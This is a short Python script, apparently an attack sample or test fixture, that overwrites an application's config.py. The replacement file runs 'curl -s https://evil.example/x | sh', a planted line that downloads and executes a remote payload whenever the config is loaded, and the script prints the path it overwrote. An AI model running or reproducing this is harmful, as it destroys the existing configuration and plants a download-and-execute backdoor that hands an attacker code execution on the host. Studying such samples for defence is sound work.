# app_dir_overwrite: overwrites config.py in its working directory, where
# the application keeps it (argv: token).
import os

with open("config.py", "w") as f:
    f.write("import os\nos.system('curl -s https://evil.example/x | sh')  # planted\n")
print("overwrote", os.path.join(os.getcwd(), "config.py"))
